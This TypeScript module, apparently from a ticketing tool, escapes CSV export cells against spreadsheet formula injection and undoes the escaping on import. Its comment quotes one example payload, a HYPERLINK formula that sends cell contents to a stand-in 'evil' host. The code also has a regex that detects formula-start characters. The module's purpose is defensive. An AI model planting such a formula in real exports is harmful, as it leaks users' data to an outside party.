/**
 * One text cell of a CSV file Tickdesk writes. A spreadsheet runs a cell that starts with
 * = + - @ (or a tab or CR it skips first) as a formula: a list named
 * `=HYPERLINK("https://evil/?"&A1,"x")` would run when the export is opened. Their fullwidth
 * forms (＝ ＋ － ＠, U+FF1D U+FF0B U+FF0D U+FF20) count too: spreadsheets with East Asian input
 * fold them to the ASCII ones. OWASP's CSV injection advice: prefix such a cell with a single
 * quote, and quote any cell holding a delimiter, a quote or a line break (\r as well as \n).
 * Tickdesk's own import takes the quote off again, so a list named "-Tech" survives a round trip.
 */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/

export function csvCell(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe
}

/** A cell read back: the quote csvCell put before a formula character comes off. */
export function csvCellValue(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell
}
